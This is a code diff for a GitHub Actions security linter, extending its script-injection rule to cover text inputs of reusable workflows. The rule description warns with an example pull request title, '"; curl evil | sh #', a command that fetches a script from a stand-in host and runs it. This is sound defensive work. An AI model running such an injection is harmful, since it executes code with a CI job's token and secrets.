@@ -8,7 +8,8 @@
  * `runs.steps` are one job, so the step rules (unpinned `uses:`, script
  * injection) apply as they are, and `inputs.*` counts as attacker-controlled
  * there — the action cannot know what its callers pass. Rules about triggers
- * and the token find nothing in an action, which has neither.
+ * and the token find nothing in an action, which has neither. A reusable
+ * workflow (`on: workflow_call`) is the same case for its text inputs.
  */
 import type { Finding } from '../../finding.ts';
 import { findingAt, type Rule } from '../../rule.ts';
@@ -118,10 +119,49 @@ export const untrustedCheckout: GRule = {
 
 /**
  * An action's inputs: whatever the calling workflow passes, which may well be
- * a pull request title (zizmor's template-injection flags them too).
+ * a pull request title (zizmor's template-injection flags them too). The
+ * `inputs` context only: `github.event.inputs.*` is the calling run's
+ * `workflow_dispatch` inputs, set by someone with write access.
  */
 const ACTION_INPUT =
-  /\binputs(?:\.[A-Za-z_][A-Za-z0-9_-]*|\[\s*(?:'[^']*'|"[^"]*")\s*\])|toJSON\(\s*inputs\s*\)/;
+  /(?<![.\w-])inputs(?:\.[A-Za-z_][A-Za-z0-9_-]*|\[\s*(?:'[^']*'|"[^"]*")\s*\])|toJSON\(\s*inputs\s*\)/;
+const INPUT_REFS = new RegExp(ACTION_INPUT.source, 'g');
+
+/** Input types whose value GitHub checks before the run: they cannot carry shell text. */
+const NON_TEXT_INPUT = new Set(['boolean', 'number']);
+
+/**
+ * The first `inputs.*` reference in `expr` that a reusable workflow's caller
+ * controls, or undefined. Under `on: workflow_call` the calling workflow
+ * passes the inputs — as it may pass a pull request title — exactly as for a
+ * composite action (zizmor's template-injection flags them too). Not counted:
+ * inputs declared there as `boolean` or `number` (GitHub rejects other
+ * values), and inputs declared only under `workflow_dispatch`, which only
+ * someone with write access to the repository can set — the rule has never
+ * counted dispatch inputs (`inputs.*` or `github.event.inputs.*`) in a
+ * workflow, and `github.event.inputs.*` in a called workflow is the calling
+ * run's dispatch inputs, so it stays unflagged too. An input declared under
+ * neither, or `toJSON(inputs)` with any text input, counts: fail closed.
+ * Input names are case-insensitive in expressions.
+ */
+function callerInput(wf: Workflow, expr: string): string | undefined {
+  if (wf.kind !== 'workflow' || !wf.triggers.has('workflow_call')) return undefined;
+  const lower = (m: Map<string, string>) => new Map([...m].map(([k, v]) => [k.toLowerCase(), v]));
+  const call = lower(wf.inputs.call);
+  const dispatch = lower(wf.inputs.dispatch);
+  for (const m of expr.matchAll(INPUT_REFS)) {
+    const ref = /^inputs(?:\.(.+)|\[\s*['"](.*)['"]\s*\])$/.exec(m[0]);
+    if (!ref) {
+      // toJSON(inputs): the whole context.
+      if (call.size === 0 || [...call.values()].some((t) => !NON_TEXT_INPUT.has(t))) return m[0];
+      continue;
+    }
+    const name = (ref[1] ?? ref[2] ?? '').toLowerCase();
+    const type = call.get(name);
+    if (type === undefined ? !dispatch.has(name) : !NON_TEXT_INPUT.has(type)) return m[0];
+  }
+  return undefined;
+}
 
 /** Contexts an outsider can set (GitHub security hardening guide, zizmor). */
 const ATTACKER_CONTEXT =
@@ -133,7 +173,7 @@ export const scriptInjection: GRule = {
   title: 'Attacker-controlled context expanded into a script',
   description:
     // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax, not a JS template
-    '`${{ … }}` is pasted into the script text before the shell (or github-script) runs it, so a pull request title like `"; curl evil | sh #` becomes code running with the job\'s token and secrets — in bash, PowerShell (`shell: pwsh`, Windows runners) or any other shell alike. In a composite action (`action.yml`) `inputs.*` counts too: the action cannot know what its callers pass. Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}` and use `"$TITLE"`, or `$env:TITLE` in PowerShell).',
+    '`${{ … }}` is pasted into the script text before the shell (or github-script) runs it, so a pull request title like `"; curl evil | sh #` becomes code running with the job\'s token and secrets — in bash, PowerShell (`shell: pwsh`, Windows runners) or any other shell alike. In a composite action (`action.yml`) `inputs.*` counts too: the action cannot know what its callers pass; so do a reusable workflow\'s (`on: workflow_call`) text inputs, set by whichever workflow calls it (`boolean` and `number` inputs cannot carry text, and `workflow_dispatch` inputs are set by someone with write access, so neither is reported). Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}` and use `"$TITLE"`, or `$env:TITLE` in PowerShell).',
   references: [
     'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
   ],
@@ -149,19 +189,27 @@ export const scriptInjection: GRule = {
         }
         for (const t of targets)
           for (const e of expressions(wf, t)) {
-            const m =
-              ATTACKER_CONTEXT.exec(e.expr) ??
-              (wf.kind === 'action' ? ACTION_INPUT.exec(e.expr) : null);
-            if (!m) continue;
-            const why = /^(?:github\.|toJSON\(\s*github)/.test(m[0])
-              ? 'is attacker-controlled'
-              : "is whatever the action's caller passes";
+            const attacker = ATTACKER_CONTEXT.exec(e.expr)?.[0];
+            const input =
+              attacker === undefined
+                ? wf.kind === 'action'
+                  ? ACTION_INPUT.exec(e.expr)?.[0]
+                  : callerInput(wf, e.expr)
+                : undefined;
+            const what = attacker ?? input;
+            if (what === undefined) continue;
+            const why =
+              attacker !== undefined
+                ? 'is attacker-controlled'
+                : wf.kind === 'action'
+                  ? "is whatever the action's caller passes"
+                  : "is whatever the reusable workflow's caller passes";
             out.push(
               findingAt(
                 this,
                 ctx,
                 { line: e.line, column: e.column },
-                `${j.label}: \${{ ${e.expr} }} is expanded into the script (${m[0]} ${why})`,
+                `${j.label}: \${{ ${e.expr} }} is expanded into the script (${what} ${why})`,
               ),
             );
           }
